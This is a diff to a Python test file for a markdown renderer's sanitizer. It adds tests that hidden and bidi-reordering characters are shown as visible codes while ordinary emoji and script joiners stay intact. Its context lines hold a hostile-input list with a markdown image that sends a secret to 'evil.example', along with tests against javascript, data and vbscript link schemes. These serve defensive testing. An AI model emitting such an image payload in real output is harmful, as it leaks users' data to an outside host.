@@ -4,7 +4,7 @@ import re
 
 import pytest
 
-from celeriac.web.render import argument_rows, markdown, visible
+from celeriac.web.render import argument_rows, markdown, prose, visible, written_out
 
 HOSTILE = [
     "![x](https://evil.example/?q=secret)",
@@ -25,7 +25,7 @@ def test_se_02_nothing_in_the_text_loads_by_itself(text: str) -> None:
     html = markdown(text)
     for tag, attributes in re.findall(r"<(\w+)([^>]*)>", html):
         assert tag in {"p", "a", "pre", "code", "span"}
-        assert re.fullmatch(r'( (href|rel|class)="[^"]*")*', attributes)
+        assert re.fullmatch(r'( (href|rel|class|tabindex)="[^"]*")*', attributes)
 
 
 @pytest.mark.parametrize("scheme", ["javascript", "JaVaScRiPt", "data", "vbscript", "file"])
@@ -47,7 +47,7 @@ def test_a_host_in_a_link_is_text() -> None:
 
 def test_markdown_is_rendered() -> None:
     html = markdown("**bold** and\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
-    for tag in ("<strong>", "<li>", "<table>"):
+    for tag in ("<strong>", "<li>", "<table "):
         assert tag in html
 
 
@@ -76,6 +76,51 @@ def test_characters_that_hide_or_reorder_are_written_out(text: str, codes: list[
 def test_ordinary_text_is_only_escaped() -> None:
     text = "Grüße, 日本 👍\ufe0f <b>\n\ttab"
     assert visible(text) == "Grüße, 日本 👍\ufe0f &lt;b&gt;\n\ttab"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "pay\u202e001",
+        "a\u200bb",
+        "`c\u2066d`",
+        "```\ne\u2069f\n```",
+        "    g\ufeffh",
+        "[i\u200dj](https://a.example)",
+    ],
+)
+def test_se_02_what_hides_is_written_out_in_markdown_too(text: str) -> None:
+    html = markdown(text)
+    assert html.count('<span class="hidden-character" title="') == 1
+    assert not set("\u202e\u200b\u2066\u2069\ufeff\u200d") & set(html)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "👩🏽\u200d🚀",
+        "🏳\ufe0f\u200d🌈",
+        "\u0645\u06cc\u200c\u062e\u0648",
+        "क्\u200dष",
+        "10\u00a0000\u202f€",
+        "one\ntwo",
+    ],
+)
+def test_ordinary_writing_stays_as_it_is(text: str) -> None:
+    assert prose(text) == text
+
+
+def test_a_line_ends_in_one_way() -> None:
+    assert prose("one\r\ntwo\rthree").startswith("one\ntwo<span ")
+
+
+@pytest.mark.parametrize("text", ["\u200d", "a\u200d", "\u200da", "a\u200cb", "👩\u200d"])
+def test_a_joiner_that_joins_nothing_is_written_out(text: str) -> None:
+    assert "hidden-character" in prose(text)
+
+
+def test_places_without_markup_get_the_codes_alone() -> None:
+    assert written_out('a\u202e"b') == 'aU+202E"b'
 
 
 def test_arguments_keep_their_types() -> None:
